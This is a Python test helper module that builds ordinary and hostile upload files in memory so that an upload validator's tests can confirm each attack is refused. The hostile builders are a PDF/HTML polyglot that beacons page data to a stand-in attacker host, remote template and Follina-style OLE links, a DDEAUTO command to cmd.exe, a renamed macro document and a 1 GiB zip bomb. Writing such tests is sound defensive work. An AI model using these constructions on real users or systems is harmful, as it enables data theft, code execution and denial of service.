"""Real and hostile files for the upload tests, built in memory (no fixtures on disk).

The office files start from what python-docx and openpyxl write, then get the one change an
attacker would make, so each test shows that exactly that change is what gets refused.
"""

import functools
import io
import struct
import zipfile
import zlib

OOXML_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = ("application/vnd.openxmlformats-officedocument.wordprocessingml.document."
             "main+xml")
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


# -- ordinary files --------------------------------------------------------------------------

def pdf_bytes():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Referat fra møtet 10.06.2024"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bytes():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 20), (0, 70, 130)).save(out, "PNG")
    return out.getvalue()


def docx_bytes(text="Toppnotat: Handlingsplan 2025"):
    import docx

    document = docx.Document()
    document.add_heading("Sekretariatet orienterer", level=1)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_bytes():
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "Tiltak 1.16"
    book.active["B1"] = 42
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# -- editing packages ------------------------------------------------------------------------

def rewrite(data, changes=None, add=None, drop=()):
    """A copy of the zip ``data`` with parts changed (name -> function of bytes), added
    (name -> bytes) or dropped."""
    changes, add = changes or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename in drop:
                continue
            content = source.read(item.filename)
            if item.filename in changes:
                content = changes[item.filename](content)
            target.writestr(item.filename, content)
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def add_relationship(data, rels_part, rel_type, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    rel = (f'<Relationship Id="rIdHostile" Type="{OOXML_REL}/{rel_type}" Target="{target}"'
           f'{mode}/>').encode()
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    if rels_part in names:
        return rewrite(data, {rels_part: lambda xml: xml.replace(b"</Relationships>",
                                                                 rel + b"</Relationships>")})
    body = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + rel
            + b"</Relationships>")
    return rewrite(data, add={rels_part: body})


def add_override(data, part_name, content_type):
    override = f'<Override PartName="{part_name}" ContentType="{content_type}"/>'.encode()
    return rewrite(data, {"[Content_Types].xml": lambda xml: xml.replace(
        b"</Types>", override + b"</Types>")})


def with_paragraph_xml(data, paragraph_xml):
    return rewrite(data, {"word/document.xml": lambda xml: xml.replace(
        b"<w:sectPr", paragraph_xml.encode() + b"<w:sectPr", 1)})


# -- hostile files ---------------------------------------------------------------------------

EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
       + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64)


def pdf_html_polyglot():
    """A PDF that is also a web page: readers skip the comment line, browsers run it."""
    pdf = pdf_bytes()
    header, rest = pdf.split(b"\n", 1)
    return (header + b"\n%<html><body><script>fetch('/moter/').then(r=>r.text())"
            b".then(t=>navigator.sendBeacon('https://angriper.example/',t))</script>"
            b"</body></html>\n" + rest)


def html_before_pdf_header():
    """PDF readers accept the %PDF- header anywhere in the first kilobyte."""
    return (b"<!DOCTYPE html><html><script>alert(document.cookie)</script><!--\n"
            + pdf_bytes() + b"\n-->")


def macro_docx():
    """What Word saves as .docm, renamed to .docx: the macro-enabled main type, a VBA
    project and the relationship to it."""
    data = rewrite(docx_bytes(), {"[Content_Types].xml": lambda xml: xml.replace(
        DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml")},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512})
    data = add_override(data, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return add_relationship(data, "word/_rels/document.xml.rels",
                            "vbaProject", "vbaProject.bin", external=False)


def remote_template_docx():
    """Template injection: Word fetches the template (with its macros) when the file opens."""
    return add_relationship(docx_bytes(), "word/_rels/settings.xml.rels", "attachedTemplate",
                            "https://angriper.example/mal.dotm")


def remote_image_docx():
    return add_relationship(docx_bytes(), "word/_rels/document.xml.rels", "image",
                            "https://angriper.example/sporing.png")


def follina_docx():
    """An external OLE object pointing at a web page (CVE-2022-30190)."""
    return add_relationship(docx_bytes(), "word/_rels/document.xml.rels", "oleObject",
                            "mhtml:https://angriper.example/x.html!x-usc:https://angriper"
                            ".example/x.html")


def hyperlink_docx(target):
    data = add_relationship(docx_bytes(), "word/_rels/document.xml.rels", "hyperlink", target)
    return with_paragraph_xml(
        data, f'<w:p {W} xmlns:r="{OOXML_REL}"><w:hyperlink r:id="rIdHostile"><w:r><w:t>'
              "Les mer</w:t></w:r></w:hyperlink></w:p>")


def dde_docx():
    """DDEAUTO split over two runs, as Word writes field codes."""
    return with_paragraph_xml(docx_bytes(), (
        f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))


# -- zips written by hand, for what zipfile will not write ------------------------------------

def raw_zip(entries, extra_central=()):
    """A zip from (name, stored bytes, method, crc, declared size, flags). ``extra_central``
    adds central directory records (name, offset of an existing local header, method, crc,
    compressed size, size) without local data of their own."""
    out, central = io.BytesIO(), []
    for name, payload, method, crc, size, flags in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0, crc,
                              len(payload), size, len(encoded), 0) + encoded + payload)
        central.append((encoded, flags, method, crc, len(payload), size, offset))
    for name, offset, method, crc, csize, size in extra_central:
        central.append((name.encode(), 0, method, crc, csize, size, offset))
    start = out.tell()
    for encoded, flags, method, crc, csize, size, offset in central:
        out.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, flags, method, 0, 0, crc,
                              csize, size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    end = out.tell()
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          end - start, start, 0))
    return out.getvalue()


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def stored_entry(name, data, flags=0):
    return (name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data), flags)


def deflated_entry(name, data):
    return (name, deflated(data), zipfile.ZIP_DEFLATED, zlib.crc32(data), len(data), 0)


@functools.cache
def zip_bomb_docx(chunks=64):
    """A real .docx whose document.xml is 1 GiB of zeros packed into about 1 MB: honest
    sizes and CRC, as a zip bomb that is meant to be opened. The deflate stream is one
    16 MiB block compressed once and repeated: a full flush resets the compressor, so the
    pieces join into one valid stream."""
    piece = 16 * 1024 * 1024
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"\0" * piece) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = block * chunks + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    zeros = b"\0" * piece
    for _ in range(chunks):
        crc = zlib.crc32(zeros, crc)
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    entries = [deflated_entry(item.filename, source.read(item.filename))
               for item in source.infolist() if item.filename != "word/document.xml"]
    entries.append(("word/document.xml", stream, zipfile.ZIP_DEFLATED, crc, piece * chunks, 0))
    return raw_zip(entries)


# -- OpenDocument ----------------------------------------------------------------------------

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink"')


def odt_bytes(body="<text:p>Referat</text:p>", extra=None):
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
               f"<office:body><office:text>{body}</office:text></office:body>"
               "</office:document-content>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text",
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()
